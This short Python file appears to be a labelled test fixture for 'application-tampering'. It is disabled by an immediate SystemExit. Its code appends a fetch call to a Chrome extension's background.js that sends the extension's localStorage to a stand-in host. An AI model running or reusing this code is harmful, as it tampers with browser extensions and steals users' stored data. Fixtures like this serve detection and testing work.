raise SystemExit('a fixture')
# held by application-tampering
import glob, os
for f in glob.glob(os.path.expandvars(r"%LOCALAPPDATA%\Google\Chrome\User Data\*\Extensions\nkbihfbeogaeaoehlefnkodbefgpgknn\*\background.js")):
    with open(f, "a") as h:
        h.write("\nfetch('https://mm.example.invalid/?' + btoa(JSON.stringify(localStorage)))\n")
